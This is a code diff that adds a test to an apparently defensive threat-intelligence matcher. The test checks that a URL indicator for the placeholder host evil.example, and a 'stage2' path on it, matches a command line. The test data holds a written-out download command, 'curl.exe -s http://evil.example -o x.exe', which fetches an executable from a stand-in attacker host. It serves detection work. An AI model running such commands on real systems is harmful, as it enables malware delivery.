@@ -442,3 +442,12 @@ def test_the_watchdog_resumes_lost_sweeps_and_imports(
         job.refresh_from_db()
         assert sweep.status == "succeeded" and hits_of(sweep) == EXPECTED
         assert job.status == "succeeded" and job.added == 1
+
+
+def test_a_bare_host_url_ioc_matches_a_command_line_without_the_trailing_slash():
+    from intel.matching import match_keys, url_needle
+
+    assert url_needle("http://evil.example/") == "http://evil.example"
+    assert url_needle("http://evil.example/stage2") == "http://evil.example/stage2"
+    keys = match_keys("url", "http://evil.example/")
+    assert keys.needle in "curl.exe -s http://evil.example -o x.exe"
